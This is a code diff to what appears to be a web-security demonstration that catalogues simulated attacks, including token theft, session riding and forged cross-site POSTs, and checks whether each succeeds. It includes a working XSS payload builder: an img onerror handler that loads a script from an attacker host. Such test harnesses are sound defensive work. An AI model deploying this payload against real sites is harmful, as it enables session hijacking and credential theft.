@@ -6,7 +6,7 @@ export const ATTACKS = [
   { id: 'passive', name: 'Passive thief', script: 'thief-passive.js', asks: 'Did the script get the credential?',
     does: 'An injected script looks through localStorage, sessionStorage, document.cookie and every object it can reach.' },
   { id: 'active', name: 'Active thief', script: 'thief-active.js', asks: 'Did the script get the credential?',
-    does: 'As the passive one, in the usual places; and it wraps fetch and XMLHttpRequest, asks for a silent refresh, and waits for the page’s next request.' },
+    does: 'Like the passive one, in the usual places. It also wraps fetch and XMLHttpRequest, requests a silent refresh, and waits for the page’s next request.' },
   { id: 'rider', name: 'Ride the session', script: 'rider.js', asks: 'Did it act as the user?',
     does: 'An injected script reads nothing: it sends a request with credentials and presses this page’s own buttons.' },
   { id: 'post', name: 'Forged POST', page: 'forged-post.html', site: EVIL, target: '/form/items', asks: 'Was the cart changed?',
@@ -26,16 +26,16 @@ export const ATTACKS = [
   { id: 'sibling', name: 'Sibling’s POST', page: 'forged-post.html', site: SIBLING, target: '/form/items', asks: 'Was the cart changed?',
     does: 'A subdomain of the same site, which the attacker controls, posts the plain form.' },
   { id: 'guarded', name: 'Sibling’s POST, guarded', page: 'forged-post.html', site: SIBLING, target: '/guarded/items',
-    asks: 'Was the cart changed?', does: 'The same, to the call that looks at Origin and wants a CSRF token.' },
+    asks: 'Was the cart changed?', does: 'The same, to the call that checks Origin and needs a CSRF token.' },
 ]
 
-/** The address of an attack page. With `wait` it says what it is about to do, and has a button. */
+/** The address of an attack page. With `wait` the page first says what it will do, and has a button. */
 export function addressOf(attack, item) {
   const asked = new URLSearchParams({ target: API + attack.target, item, wait: '1' })
   return `${attack.site}/${attack.page}?${asked}`
 }
 
-/** A note that runs a script by an event handler: a script element put in by innerHTML would not run. */
+/** A note that runs a script by an event handler, because a script element inserted by innerHTML would not run. */
 export const noteWith = (script) =>
   `A note with a picture in it. <img alt="" src="data:," onerror="const s = document.createElement('script'); ` +
   `s.src = '${EVIL}/${script}'; document.head.append(s); this.remove()">`
